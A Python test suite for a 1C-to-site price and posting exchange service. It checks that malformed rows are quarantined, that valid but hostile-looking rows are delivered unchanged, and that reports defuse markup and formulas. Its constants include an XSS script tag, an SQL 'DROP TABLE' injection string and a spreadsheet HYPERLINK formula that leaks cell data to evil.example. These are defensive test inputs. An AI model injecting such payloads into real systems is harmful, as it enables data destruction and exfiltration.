"""The hostile input catalogue (contract 1 and 8): one table of what 1C might write, and what
each row must become.

Every case is staged into one database, each followed by an ordinary good price, and the
service runs until idle. Then, on SQLite and on PostgreSQL alike:
- a bad row is one quarantine record with the reason of the table and an explanation an
  operator can act on (its key words are asserted);
- a row that only looks hostile (Cyrillic, emoji, SQL or markup in free text, the largest
  version, a posting's extra fields) is delivered, and the site receives it digit for digit;
- the good row after every case is delivered: no bad row stops the rows behind it;
- every report format, and ``exchange quarantine export`` in each, renders the whole
  catalogue, with markup shown as text (HTML) and formulas neutralised (CSV, XLSX).

Some values cannot even be written to PostgreSQL (NUL bytes in text, text in a BIGINT, bytes
that are not UTF-8, versions of 2^63 and more): there, 1C's INSERT fails and the service never
sees the row; those cases assert that refusal instead. SQLite stores whatever it is given, so
there the service itself must turn such a row into a quarantine record.
"""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Iterator
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from sqlalchemy import Engine, insert, literal_column, select
from sqlalchemy.exc import DBAPIError, StatementError
from typer.testing import CliRunner

from exchange import app as bootstrap
from exchange.cli import app
from exchange.db.engine import make_engine, transaction
from exchange.db.schema import history, staging
from exchange.dev.dbkit import PgKit, sqlite_copy
from exchange.dev.testing import FakeSite, fast_settings, one_channel_messages, run_worker
from exchange.domain.clock import SystemClock
from exchange.domain.identity import message_id
from exchange.ops.quarantine import Filters
from exchange.report import collect as report

# Migration 0026 dropped the one channel's copy from `messages` and `aggregates`: read each
# with its delivery and cursor on the one channel instead.
messages = one_channel_messages()

SCRIPT = "<script>alert(1)</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"открыть")'
SQL = "'; DROP TABLE messages; --"
CYRILLIC = "Установка цен 🎄 «Ёлочные игрушки»"
MEGABYTE = "Щ" * (1 << 19)  # 1 MiB of UTF-8
BIGINT_MAX = 2**63 - 1


@dataclass(frozen=True)
class NotUtf8:
    """Bytes that are not UTF-8, written into a TEXT column the way a careless driver does."""

    hex: str

    def sql(self, backend: str) -> Any:
        if backend == "sqlite":
            return literal_column(f"CAST(X'{self.hex}' AS TEXT)")
        return literal_column(f"convert_from('\\x{self.hex}'::bytea, 'UTF8')")


NOT_UTF8 = NotUtf8("41EDA080")  # "A" and a UTF-16 surrogate encoded as a character


@dataclass(frozen=True)
class Case:
    """One hostile staging row. ``expect``: a quarantine reason, "delivered" or "duplicate"."""

    id: str
    kind: Any
    aggregate: Any
    version: Any
    payload: Any
    expect: str
    words: tuple[str, ...] = ()
    schema_version: Any = "1"
    source_ref: Any = "Установка цен номенклатуры 000184"
    created_at: Any = None
    before: tuple[dict[str, Any], ...] = ()  # staged first (the original of a conflict)
    sent: dict[str, Any] | None = None  # what the site must receive, for a delivered case
    # PostgreSQL refuses the INSERT itself (the value is not storable there): why
    postgres_refuses: str | None = None

    def row(self) -> dict[str, Any]:
        values = {
            "kind": self.kind,
            "aggregate": self.aggregate,
            "aggregate_version": self.version,
            "payload": self.payload,
            "schema_version": self.schema_version,
            "source_ref": self.source_ref,
        }
        if self.created_at is not None:
            values["created_at"] = self.created_at
        return values


def js(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)


def price(n: int, price_value: Any = "1.00", **fields: Any) -> str:
    """A price payload for aggregate H<n>, with fields changed or added."""
    return js({"sku": f"H{n}", "price": price_value, "currency": "RUB", **fields})


def sent_price(sku: str, price_value: str, currency: str = "RUB", price_type: str = "retail"):
    return {"sku": sku, "price": price_value, "currency": currency, "price_type": price_type}


INVALID = "invalid-contract"
P, FP = "price", "financial_posting"
NUL_REFUSED = "PostgreSQL text cannot hold NUL bytes"
UTF8_REFUSED = "a UTF8 PostgreSQL database refuses bytes that are not UTF-8"

CASES: list[Case] = [
    # -- payloads that are not a JSON object ------
    Case("not-json", P, "H1", 1, "not json at all", INVALID, ("not valid JSON",)),
    Case("empty-payload", P, "H2", 1, "", INVALID, ("not valid JSON",)),
    Case("json-array", P, "H3", 1, '["H3", "1.00"]', INVALID, ("JSON object", "list")),
    Case("json-string", P, "H4", 1, '"840.00"', INVALID, ("JSON object", "str")),
    Case("json-number", P, "H5", 1, "840", INVALID, ("JSON object", "int")),
    Case("json-null", P, "H6", 1, "null", INVALID, ("JSON object", "NoneType")),
    Case("posting-array", FP, "D1", 1, "[1, 2]", INVALID, ("JSON object", "list")),
    # -- numbers the contract does not allow ------
    Case("nan", P, "H7", 1, '{"sku": "H7", "price": NaN}', INVALID, ("NaN", "not a number")),
    Case("infinity", P, "H8", 1, '{"sku": "H8", "price": Infinity}', INVALID, ("Infinity",)),
    Case("minus-infinity", P, "H9", 1, '{"sku": "H9", "price": -Infinity}', INVALID, ("-Inf",)),
    Case("nan-string", P, "H10", 1, price(10, "NaN"), INVALID, ("price", "plain decimal")),
    Case("exponent", P, "H11", 1, '{"sku": "H11", "price": 1e3}', INVALID, ("price", "exponent")),
    Case("exponent-string", P, "H12", 1, price(12, "1E3"), INVALID, ("price", "plain decimal")),
    Case("negative", P, "H13", 1, price(13, "-1.00"), INVALID, ("price", "at least 0")),
    Case("five-decimals", P, "H14", 1, price(14, "1.00001"), INVALID, ("price", "4 decimal")),
    Case("ten-to-twelve", P, "H15", 1, price(15, "1000000000000"), INVALID, ("price", "10^12")),
    Case(
        "huge-number",
        P,
        "H16",
        1,
        '{"sku": "H16", "price": 1' + "0" * 400 + "}",
        INVALID,
        ("price", "10^12"),
    ),
    Case(
        "huge-exponent", P, "H17", 1, '{"sku": "H17", "price": 1e999999999}', INVALID, ("exponent",)
    ),
    # -- wrong types, missing and extra fields ------
    Case("price-bool", P, "H18", 1, price(18, True), INVALID, ("price", "decimal string")),
    Case("price-list", P, "H19", 1, price(19, ["1.00"]), INVALID, ("price", "decimal string")),
    Case("price-object", P, "H20", 1, price(20, {"v": "1"}), INVALID, ("price", "decimal string")),
    Case("price-null", P, "H21", 1, price(21, None), INVALID, ("price", "decimal string")),
    Case("missing-price", P, "H22", 1, js({"sku": "H22"}), INVALID, ("price", "required")),
    Case("missing-sku", P, "H23", 1, js({"price": "1.00"}), INVALID, ("sku", "required")),
    Case("extra-field", P, "H24", 1, price(24, discount="5"), INVALID, ("discount", "not a field")),
    Case("sku-not-aggregate", P, "H25", 1, price(26), INVALID, ("sku", "aggregate")),
    Case(
        "sku-10k-chars",
        P,
        "H27",
        1,
        js({"sku": "S" * 10_000, "price": "1"}),
        INVALID,
        ("1 to 100",),
    ),
    Case("megabyte-price", P, "H28", 1, price(28, note=MEGABYTE), INVALID, ("note", "not a field")),
    # -- text fields of the payload: Cyrillic, NUL, lone surrogates ------
    Case(
        "currency-cyrillic", P, "H29", 1, price(29, currency="РУБ"), INVALID, ("currency", "upper")
    ),
    Case(
        "currency-nul",
        P,
        "H30",
        1,
        price(30, currency="R\u0000B"),
        INVALID,
        ("currency", "control"),
    ),
    Case(
        "sku-nul", P, "H31", 1, js({"sku": "H\u000031", "price": "1"}), INVALID, ("sku", "control")
    ),
    Case(
        "price-type-nul",
        P,
        "H32",
        1,
        price(32, price_type="retail\u0000"),
        INVALID,
        ("price_type", "control"),
    ),
    Case(
        "sku-lone-surrogate",
        P,
        "H33",
        1,
        '{"sku": "H33\\ud800", "price": "1"}',
        INVALID,
        ("sku", "aggregate"),
    ),
    Case(
        "price-type-lone-surrogate",
        P,
        "H34",
        1,
        '{"sku": "H34", "price": "1", "price_type": "\\udc00"}',
        INVALID,
        ("surrogate",),
    ),
    Case(
        "posting-lone-surrogate",
        FP,
        "D2",
        1,
        '{"memo": "\\ud83d"}',
        INVALID,
        ("surrogate",),
    ),
    # -- the row's own columns ------
    Case("version-zero", P, "H35", 0, price(35), INVALID, ("aggregate_version", "1 or more")),
    Case("version-negative", P, "H36", -1, price(36), INVALID, ("aggregate_version", "1 or more")),
    Case(
        "version-bigint-min",
        P,
        "H37",
        -(2**63),
        price(37),
        INVALID,
        ("aggregate_version", "1 or more"),
    ),
    Case("aggregate-empty", FP, "", 1, "{}", INVALID, ("aggregate", "non-empty")),
    Case("aggregate-blank", FP, "   ", 1, "{}", INVALID, ("aggregate", "non-empty")),
    Case("kind-unknown", "stock", "H38", 1, "{}", "unknown-kind", ("'stock'", "not configured")),
    Case("kind-empty", "", "H39", 1, "{}", "unknown-kind", ("''", "not configured")),
    Case("kind-upper-case", "PRICE", "H40", 1, price(40), "unknown-kind", ("'PRICE'",)),
    Case("kind-cyrillic", "цена 🎄", "H41", 1, "{}", "unknown-kind", ("цена 🎄",)),
    Case("kind-sql", SQL, "H42", 1, "{}", "unknown-kind", ("DROP TABLE",), source_ref=SQL),
    Case("kind-markup", SCRIPT, "H43", 1, "{}", "unknown-kind", ("script",), source_ref=SCRIPT),
    Case("kind-formula", HYPERLINK[:64], "H44", 1, "{}", "unknown-kind", ("HYPERLINK",)),
    Case("schema-2", P, "H45", 1, price(45), "unsupported-schema", ("'2'", "supported: 1"), "2"),
    Case("schema-empty", P, "H46", 1, price(46), "unsupported-schema", ("''",), ""),
    Case("schema-emoji", P, "H47", 1, price(47), "unsupported-schema", ("1️⃣",), "1️⃣"),
    Case("schema-markup", P, "H48", 1, price(48), "unsupported-schema", ("script",), SCRIPT),
    Case("schema-formula", P, "H49", 1, price(49), "unsupported-schema", ("=1+1",), "=1+1"),
    # rejected rows carrying markup, formulas, SQL and Cyrillic where reports show them
    Case(
        "aggregate-formula", FP, HYPERLINK, 1, "[]", INVALID, ("JSON object",), source_ref=HYPERLINK
    ),
    Case("aggregate-markup", FP, SCRIPT, 1, "[]", INVALID, ("JSON object",), source_ref=CYRILLIC),
    Case("aggregate-sql", FP, SQL, 1, "[]", INVALID, ("JSON object",), source_ref="@SUM(A1:A9)"),
    Case(
        "payload-markup",
        P,
        "H50",
        1,
        price(50, note=SCRIPT, link=HYPERLINK),
        INVALID,
        ("note", "link", "not a field"),
        source_ref="+7 (495) 000-00-00",
    ),
    # -- the same version again ------
    Case(
        "same-version-other-price",
        P,
        "H51",
        1,
        price(51, "2.00"),
        "version-conflict",
        ("version 1", "already taken", "different payload"),
        before=({"kind": P, "aggregate": "H51", "aggregate_version": 1, "payload": price(51)},),
    ),
    Case(
        "same-version-other-posting",
        FP,
        "D3",
        1,
        js({"amount": "10.01"}),
        "version-conflict",
        ("already taken", "different payload"),
        before=(
            {"kind": FP, "aggregate": "D3", "aggregate_version": 1, "payload": '{"amount": "10"}'},
        ),
    ),
    Case(
        "same-version-same-payload-reordered",
        P,
        "H52",
        1,
        js({"currency": "RUB", "price": "1.00", "sku": "H52"}),
        "duplicate",
        before=({"kind": P, "aggregate": "H52", "aggregate_version": 1, "payload": price(52)},),
    ),
    # -- hostile-looking but valid: delivered exactly ------
    Case(
        "cyrillic-emoji-everywhere",
        P,
        "Ёлка-🎄-001",
        1,
        js({"sku": "Ёлка-🎄-001", "price": "840.00", "price_type": "розница 🛒"}),
        "delivered",
        source_ref=CYRILLIC,
        sent=sent_price("Ёлка-🎄-001", "840.00", price_type="розница 🛒"),
    ),
    Case(
        "sql-in-sku-and-price-type",
        P,
        SQL,
        1,
        js({"sku": SQL, "price": "1.50", "price_type": SQL}),
        "delivered",
        source_ref=SQL,
        sent=sent_price(SQL, "1.50", price_type=SQL),
    ),
    Case(
        "markup-in-sku",
        P,
        SCRIPT,
        1,
        js({"sku": SCRIPT, "price": 0}),
        "delivered",
        source_ref=SCRIPT,
        sent=sent_price(SCRIPT, "0"),
    ),
    Case(
        "formula-in-sku",
        P,
        HYPERLINK,
        1,
        js({"sku": HYPERLINK, "price": "0.0001"}),
        "delivered",
        sent=sent_price(HYPERLINK, "0.0001"),
    ),
    Case(
        "largest-price-as-json-number",
        P,
        "H53",
        1,
        '{"sku": "H53", "price": 999999999999.9999}',
        "delivered",
        sent=sent_price("H53", "999999999999.9999"),
    ),
    Case(
        "largest-version",
        P,
        "H54",
        2**62 - 1,
        price(54, "5.00"),
        "delivered",
        sent=sent_price("H54", "5.00"),
    ),
    # The numbers from 2^62 up are the 1C packages' (contract 1): one at 2^63-1 once left no
    # number for any later package.
    Case("largest-bigint-version", P, "H99", BIGINT_MAX, price(99, "5.00"), INVALID, ("2^62",)),
    Case(
        "posting-extra-fields-nul-and-megabyte",
        FP,
        "D4",
        1,
        js({"amount": 10.10, "memo": "a\u0000b", "note": MEGABYTE, "nested": {"x": [1, None]}}),
        "delivered",
        sent={
            "amount": Decimal("10.1"),
            "memo": "a\u0000b",
            "note": MEGABYTE,
            "nested": {"x": [1, None]},
        },
    ),
    Case("posting-empty-object", FP, "D5", 1, "{}", "delivered", sent={}),
    # -- values only SQLite stores: PostgreSQL refuses 1C's INSERT ------
    Case(
        "version-above-bigint",
        P,
        "H55",
        2**63,
        price(55),
        "refused",
        postgres_refuses="out of range",
    ),
    Case(
        "version-as-text",
        P,
        "H56",
        "seven",
        price(56),
        INVALID,
        ("aggregate_version", "'seven'", "whole number"),
        postgres_refuses="invalid input syntax for type bigint",
    ),
    Case(
        "raw-nul-in-kind",
        "pri\x00ce",
        "H57",
        1,
        price(57),
        "unknown-kind",
        ("not configured",),
        postgres_refuses=NUL_REFUSED,
    ),
    Case(
        "raw-nul-in-aggregate",
        FP,
        "D\x006",
        1,
        "{}",
        INVALID,
        ("aggregate", "printable"),
        postgres_refuses=NUL_REFUSED,
    ),
    Case(
        "raw-nul-in-payload",
        FP,
        "D7",
        1,
        '{"memo": "a\x00b"}',
        INVALID,
        ("not valid JSON", "control character"),
        postgres_refuses=NUL_REFUSED,
    ),
    Case(
        "raw-nul-in-schema",
        P,
        "H58",
        1,
        price(58),
        "unsupported-schema",
        ("schema_version",),
        schema_version="1\x00",
        postgres_refuses=NUL_REFUSED,
    ),
    Case(
        "raw-nul-in-source-ref",
        P,
        "H59",
        1,
        price(59),
        INVALID,
        ("source_ref", "NUL"),
        source_ref="Документ\x00000184",
        postgres_refuses=NUL_REFUSED,
    ),
    Case(
        "not-utf8-kind",
        NOT_UTF8,
        "H60",
        1,
        "{}",
        INVALID,
        ("kind", "not valid UTF-8"),
        postgres_refuses=UTF8_REFUSED,
    ),
    Case(
        "not-utf8-aggregate",
        FP,
        NOT_UTF8,
        1,
        "{}",
        INVALID,
        ("aggregate", "not valid UTF-8"),
        postgres_refuses=UTF8_REFUSED,
    ),
    Case(
        "not-utf8-payload",
        FP,
        "D8",
        1,
        NotUtf8("7B226D656D6F223A2022EDA080227D"),
        INVALID,
        ("payload", "not valid UTF-8"),
        postgres_refuses=UTF8_REFUSED,
    ),
    Case(
        "not-utf8-schema",
        P,
        "H61",
        1,
        price(61),
        INVALID,
        ("schema_version", "not valid UTF-8"),
        schema_version=NOT_UTF8,
        postgres_refuses=UTF8_REFUSED,
    ),
    Case(
        "not-utf8-source-ref",
        P,
        "H62",
        1,
        price(62),
        INVALID,
        ("source_ref", "not valid UTF-8"),
        source_ref=NOT_UTF8,
        postgres_refuses=UTF8_REFUSED,
    ),
    Case(
        "created-at-not-a-time",
        P,
        "H63",
        1,
        price(63),
        INVALID,
        ("created_at", "'sometime'", "not a time"),
        created_at="sometime",
        postgres_refuses="invalid input syntax for type timestamp",
    ),
]
QUARANTINED = {c.id for c in CASES if c.expect not in ("delivered", "duplicate", "refused")}
DELIVERED = {c.id for c in CASES if c.expect == "delivered"}
BY_ID = {c.id: c for c in CASES}


# -- the world: every case staged, a good row after each, the service run until idle ------


class RecordingSite(FakeSite):
    """FakeSite that also keeps the body it received for each Idempotency-Key."""

    def __init__(self) -> None:
        super().__init__()
        self.bodies: dict[str, dict[str, Any]] = {}

    def __call__(self, request: Any) -> Any:
        key = request.headers["Idempotency-Key"]
        self.bodies[key] = json.loads(request.content, parse_float=Decimal)
        return super().__call__(request)


@dataclass
class World:
    backend: str
    url: str
    engine: Engine
    site: RecordingSite
    staged: dict[str, int] = field(default_factory=dict)  # case -> staging id
    good: dict[str, int] = field(default_factory=dict)  # case -> the good row's staging id
    refused: dict[str, str] = field(default_factory=dict)  # case -> the database's error
    records: dict[int, Any] = field(default_factory=dict)  # staging id -> its message row
    duplicates: list[int] = field(default_factory=list)  # staging ids recorded as duplicates


def _insert(engine: Engine, values: dict[str, Any]) -> int:
    with transaction(engine) as connection:
        key = connection.execute(insert(staging).values(**values)).inserted_primary_key
    return int(key[0])


def _good_row(case: Case) -> dict[str, Any]:
    sku = f"OK-{case.id}"
    return {"kind": P, "aggregate": sku, "aggregate_version": 1, "payload": price_of(sku)}


def price_of(sku: str) -> str:
    return js({"sku": sku, "price": "100.00"})


def build_world(backend: str, url: str) -> World:
    engine = make_engine(url)
    world = World(backend, url, engine, RecordingSite())
    for case in CASES:
        for before in case.before:
            _insert(engine, before)
        row = {
            name: value.sql(backend) if isinstance(value, NotUtf8) else value
            for name, value in case.row().items()
        }
        if case.created_at is not None:  # what 1C typed, past the service's own time type
            row["created_at"] = literal_column(f"'{case.created_at}'")
        try:
            world.staged[case.id] = _insert(engine, row)
        except (DBAPIError, StatementError, ValueError, OverflowError) as refusal:
            world.refused[case.id] = str(refusal).splitlines()[0]
        world.good[case.id] = _insert(engine, _good_row(case))
    settings = fast_settings(url, "https://site.test", max_attempts=2)
    run_worker(bootstrap.worker(settings, engine, transport=httpx.MockTransport(world.site)))
    with transaction(engine, read_only=True) as connection:
        for row in connection.execute(select(messages)).mappings():
            world.records[row["staging_id"]] = row
        for detail in connection.execute(
            select(history.c.detail).where(history.c.event == "duplicate")
        ).scalars():
            world.duplicates.append(int(detail.split("#", 1)[1].split()[0]))
    return world


@pytest.fixture(scope="module")
def sqlite_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """The catalogue run through the service on SQLite, once (the tests below only read)."""
    url = sqlite_copy(tmp_path_factory.mktemp("hostile") / "exchange.db")
    built = build_world("sqlite", url)
    yield built
    built.engine.dispose()


@pytest.fixture(scope="module")
def postgresql_world(pg_kit: PgKit) -> Iterator[World]:
    """The catalogue run through the service on PostgreSQL, once."""
    name = pg_kit.acquire()
    try:  # given back even when building the world fails
        built = build_world("postgresql", pg_kit.url(name))
        yield built
        built.engine.dispose()
    finally:
        pg_kit.release(name)


@pytest.fixture
def world(request: pytest.FixtureRequest) -> World:
    """The world of the backend the test is parametrized with (each is built once)."""
    built: World = request.getfixturevalue(f"{request.param}_world")
    return built


BACKENDS = ("sqlite", "postgresql")
each_backend = pytest.mark.parametrize("world", BACKENDS, indirect=True)


def refused_by(backend: str, case: Case) -> bool:
    """The database refuses 1C's INSERT of this row: the service never sees it."""
    return case.expect == "refused" or (
        backend == "postgresql" and case.postgres_refuses is not None
    )


def stored_cases(ids: set[str]) -> list[Any]:
    """(backend, case) for every case the backend stores: the service must handle those."""
    return [
        pytest.param(backend, case, id=f"{backend}-{case.id}")
        for backend in BACKENDS
        for case in CASES
        if case.id in ids and not refused_by(backend, case)
    ]


# -- what each row became ------


@pytest.mark.parametrize(("world", "case"), stored_cases(QUARANTINED), indirect=["world"])
def test_bad_row_becomes_one_quarantine_record_with_a_reason_an_operator_can_act_on(
    world: World, case: Case
) -> None:
    assert case.id in world.staged, f"INSERT refused: {world.refused.get(case.id)}"
    staging_id = world.staged[case.id]
    record = world.records[staging_id]
    assert (True, "quarantined", case.expect) == (
        record["rejected"],
        record["state"],
        record["reason"],
    )
    assert f"rejected-{staging_id}" == record["message_id"]
    explanation = record["last_error"] or ""
    assert len(explanation) <= 1000, "one readable explanation, not a dump of the payload"
    for word in case.words:
        assert word in explanation, f"{word!r} is not in {explanation!r}"
    assert staging_id not in world.duplicates


@pytest.mark.parametrize(("world", "case"), stored_cases(DELIVERED), indirect=["world"])
def test_hostile_looking_valid_row_is_delivered_exactly_as_staged(world: World, case: Case) -> None:
    assert case.id in world.staged, f"INSERT refused: {world.refused.get(case.id)}"
    record = world.records[world.staged[case.id]]
    assert (False, "delivered") == (record["rejected"], record["state"])
    expected_id = message_id(case.kind, case.aggregate, case.version)
    assert expected_id == record["message_id"]
    body = world.site.bodies[expected_id]
    assert (case.kind, case.aggregate, case.version) == (
        body["kind"],
        body["aggregate"],
        body["version"],
    )
    assert exact(case.sent) == exact(body["payload"]), "the site must get the payload unchanged"
    assert case.source_ref == record["source_ref"]


def exact(value: Any) -> Any:
    """A JSON value with every decimal as its digits (10.10 and 10.1 differ here)."""
    if isinstance(value, dict):
        return {k: exact(v) for k, v in value.items()}
    if isinstance(value, list):
        return [exact(v) for v in value]
    if isinstance(value, Decimal):
        return f"decimal {value}"
    return value


@each_backend
def test_same_version_and_payload_again_is_recorded_as_a_duplicate_not_a_second_message(
    world: World,
) -> None:
    case = BY_ID["same-version-same-payload-reordered"]
    staging_id = world.staged[case.id]
    assert staging_id not in world.records
    assert [staging_id] == world.duplicates
    assert 1 == world.site.effects[message_id(case.kind, case.aggregate, case.version)]


@pytest.mark.parametrize(
    ("world", "case"),
    [
        pytest.param(backend, case, id=f"{backend}-{case.id}")
        for backend in BACKENDS
        for case in CASES
        if refused_by(backend, case)
    ],
    indirect=["world"],
)
def test_value_the_database_cannot_store_is_refused_at_insert_and_stops_nothing(
    world: World, case: Case
) -> None:
    assert case.id not in world.staged, "the database stored it"
    assert case.id in world.refused, "1C's INSERT fails with the database's own error"
    good = world.records[world.good[case.id]]
    assert "delivered" == good["state"]


@each_backend
def test_no_bad_row_stops_the_good_row_staged_after_it(world: World) -> None:
    undelivered = {
        case_id: world.records.get(good, {}).get("state")
        for case_id, good in world.good.items()
        if world.records.get(good, {}).get("state") != "delivered"
    }
    assert {} == undelivered


@each_backend
def test_every_staged_row_ends_as_exactly_one_outcome(world: World) -> None:
    with transaction(world.engine, read_only=True) as connection:
        rows = connection.execute(select(staging.c.id, staging.c.taken_at)).all()
    assert [] == [row_id for row_id, taken_at in rows if taken_at is None]
    outcomes = {
        row_id: int(row_id in world.records) + world.duplicates.count(row_id) for row_id, _ in rows
    }
    assert {row_id: 1 for row_id, _ in rows} == outcomes
    assert {1} == set(world.site.effects.values()), "no message reached the site twice"


# -- the reports over the whole catalogue ------


def rendered(world: World, fmt: report.ReportFormat, lang: report.Lang) -> tuple[int, bytes]:
    with transaction(world.engine, read_only=True) as connection:
        data = report.collect(connection, Filters(), SystemClock().now())
    return len(data.entries), report.render(data, fmt, lang)


def quarantined_count(world: World) -> int:
    return sum(1 for r in world.records.values() if r["state"] == "quarantined")


def check_html(data: bytes) -> None:
    text = data.decode("utf-8")
    assert "<script" not in text.lower(), "markup from data must never become an element"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "\x00" not in text
    assert "Установка цен 🎄 «Ёлочные игрушки»" in text


def check_csv(data: bytes, lang: report.Lang) -> None:
    assert data.startswith("\ufeff".encode()), "a BOM, so that Excel reads Cyrillic as UTF-8"
    text = data.decode("utf-8-sig")
    assert "\x00" not in text
    cells = [
        c
        for row in csv.reader(io.StringIO(text), delimiter=";" if lang == "ru" else ",")
        for c in row
    ]
    live = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    live += [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]
    assert [] == live, "cells a spreadsheet would run as formulas"
    assert "'" + HYPERLINK in cells
    assert SCRIPT in cells, "CSV is text: markup stays as it was written"


def check_xlsx(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert "f" != cell.data_type, f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    assert cell.quotePrefix, f"{cell.coordinate}: formula-like text must stay text"
                values.append(cell.value)
    assert HYPERLINK in values


def check_json(data: bytes, count: int) -> None:
    document = json.loads(data)
    values = {entry[name] for entry in document["entries"] for name in ("kind", "aggregate")}
    assert {SCRIPT, HYPERLINK} <= values, "JSON is data: values exactly as written"
    assert count == len(document["entries"])


@pytest.mark.parametrize("lang", ["ru", "en"])
@pytest.mark.parametrize("fmt", ["html", "csv", "xlsx", "json"])
@each_backend
def test_every_report_format_renders_the_whole_catalogue_with_markup_and_formulas_defused(
    world: World, fmt: report.ReportFormat, lang: report.Lang
) -> None:
    count, data = rendered(world, fmt, lang)
    assert quarantined_count(world) == count
    match fmt:
        case "html":
            check_html(data)
        case "csv":
            check_csv(data, lang)
        case "xlsx":
            check_xlsx(data)
        case "json":
            check_json(data, count)


@each_backend
def test_quarantine_export_command_writes_every_format_over_the_catalogue(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``exchange quarantine export`` in every format, in process (a process per format costs
    seconds). The command leaves its engine to the end of its process: disposed here."""
    opened: list[Engine] = []
    engines = bootstrap.engines

    def tracked(*args: Any, **kwargs: Any) -> tuple[Engine, Engine | None]:
        engine, staging_engine = engines(*args, **kwargs)
        opened.append(engine)
        return engine, staging_engine

    monkeypatch.setattr(bootstrap, "engines", tracked)
    for name in [k for k in os.environ if k.startswith("EXCHANGE_")]:
        monkeypatch.delenv(name)
    env = {"EXCHANGE_DATABASE_URL": world.url, "EXCHANGE_REPORT_LANG": "ru"}
    count = quarantined_count(world)
    try:
        for fmt in ("html", "csv", "xlsx", "json"):
            output = tmp_path / f"quarantine.{fmt}"
            args = ["quarantine", "export", "--format", fmt, "--output", str(output)]
            result = CliRunner().invoke(app, args, env=env)
            assert 0 == result.exit_code, (fmt, result.output, result.exception)
            assert f"wrote {count} entries" in result.output
            data = output.read_bytes()
            match fmt:
                case "html":
                    check_html(data)
                case "csv":
                    check_csv(data, "ru")
                case "xlsx":
                    check_xlsx(data)
                case "json":
                    check_json(data, count)
    finally:
        for engine in opened:
            engine.dispose()
